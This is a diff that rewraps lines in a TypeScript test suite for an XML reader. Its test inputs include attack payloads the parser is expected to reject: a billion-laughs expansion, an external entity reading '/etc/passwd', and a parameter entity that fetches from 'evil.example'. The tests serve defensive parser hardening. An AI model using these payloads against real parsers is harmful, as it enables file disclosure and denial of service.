@@ -13,8 +13,13 @@ const getCode = (text: string, limits = {}): string | undefined => readXml(text,
 
 describe('readXml', () => {
   it('reads elements, attributes, texts, entities, CDATA and comments, with lines', () => {
-    const svg = root('\ufeff<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">\n<svg a=\'1 &lt; 2\' b="&#x6c34;&#27893;">\n<g id="x"/>t &amp; <![CDATA[<raw> & ]]><!-- no --><?pi?></svg>\n')
-    expect([...svg.attributes]).toEqual([['a', '1 < 2'], ['b', '水泵']])
+    const svg = root(
+      '\ufeff<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">\n<svg a=\'1 &lt; 2\' b="&#x6c34;&#27893;">\n<g id="x"/>t &amp; <![CDATA[<raw> & ]]><!-- no --><?pi?></svg>\n',
+    )
+    expect([...svg.attributes]).toEqual([
+      ['a', '1 < 2'],
+      ['b', '水泵'],
+    ])
     expect(svg.line).toBe(3)
     expect(svg.children[1]).toMatchObject({ name: 'g', line: 4 })
     expect(textIn(svg).trim()).toBe('t & <raw> &')
@@ -31,7 +36,11 @@ describe('readXml', () => {
 \t<!ENTITY title 'Pump 水泵'>
 ]>
 <svg xmlns="&ns_svg;">&lt;&ns_svg;</svg>`)
-    expect([svg.attributes.get('xmlns'), svg.children, svg.line]).toEqual(['http://www.w3.org/2000/svg', ['<http://www.w3.org/2000/svg'], 5])
+    expect([svg.attributes.get('xmlns'), svg.children, svg.line]).toEqual([
+      'http://www.w3.org/2000/svg',
+      ['<http://www.w3.org/2000/svg'],
+      5,
+    ])
   })
 
   it('keeps keys of prototypes as plain names', () => {
@@ -41,15 +50,27 @@ describe('readXml', () => {
   })
 
   it.each([
-    ['billion laughs', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]><lolz>&l2;</lolz>', 'xml.declaration'],
+    [
+      'billion laughs',
+      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]><lolz>&l2;</lolz>',
+      'xml.declaration',
+    ],
     ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'xml.declaration'],
     ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>', 'xml.declaration'],
     ['an entity of markup', '<!DOCTYPE a [<!ENTITY x "<b/>">]><a>&x;</a>', 'xml.declaration'],
     ['an entity of a character number', '<!DOCTYPE a [<!ENTITY x "&#60;b/>">]><a>&x;</a>', 'xml.declaration'],
     ['another declaration than of entities', '<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>', 'xml.declaration'],
     ['declarations without end', `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(3)}<a/>`, 'xml.declaration'],
-    ['very many entities', `<!DOCTYPE a [${Array.from({ length: 101 }, (_, i) => `<!ENTITY x${i} "y">`).join('')}]><a/>`, 'xml.declaration'],
-    ['words written out without end', `<!DOCTYPE a [<!ENTITY x "${'y'.repeat(500)}">]><a>${'&x;'.repeat(2001)}</a>`, 'xml.tooLong'],
+    [
+      'very many entities',
+      `<!DOCTYPE a [${Array.from({ length: 101 }, (_, i) => `<!ENTITY x${i} "y">`).join('')}]><a/>`,
+      'xml.declaration',
+    ],
+    [
+      'words written out without end',
+      `<!DOCTYPE a [<!ENTITY x "${'y'.repeat(500)}">]><a>${'&x;'.repeat(2001)}</a>`,
+      'xml.tooLong',
+    ],
     ['a declaration inside', '<a><!ENTITY x "y"></a>', 'xml.declaration'],
     ['an unknown entity', '<a>&nbsp;</a>', 'xml.entity'],
     ['a bare ampersand', '<a b="x & y"/>', 'xml.entity'],
@@ -87,10 +108,42 @@ describe('readXml', () => {
   })
 
   it('never throws, whatever the text', () => {
-    const pieces = fc.constantFrom('<', '>', '</', '/>', '<!--', '-->', '<![CDATA[', ']]>', '<!DOCTYPE ', '<?', '?>', '&', '&amp;', '&#x', ';', 'a', ' ', '=', '"', "'", '\n', '[', ']', '水', '\ud800')
-    fc.assert(fc.property(fc.array(pieces, { maxLength: 40 }).map((list) => list.join('')), (text) => {
-      const read = readXml(text)
-      expect(read.problems === undefined).toBe(read.value !== undefined)
-    }), { numRuns: 3000 })
+    const pieces = fc.constantFrom(
+      '<',
+      '>',
+      '</',
+      '/>',
+      '<!--',
+      '-->',
+      '<![CDATA[',
+      ']]>',
+      '<!DOCTYPE ',
+      '<?',
+      '?>',
+      '&',
+      '&amp;',
+      '&#x',
+      ';',
+      'a',
+      ' ',
+      '=',
+      '"',
+      "'",
+      '\n',
+      '[',
+      ']',
+      '水',
+      '\ud800',
+    )
+    fc.assert(
+      fc.property(
+        fc.array(pieces, { maxLength: 40 }).map((list) => list.join('')),
+        (text) => {
+          const read = readXml(text)
+          expect(read.problems === undefined).toBe(read.value !== undefined)
+        },
+      ),
+      { numRuns: 3000 },
+    )
   })
 })
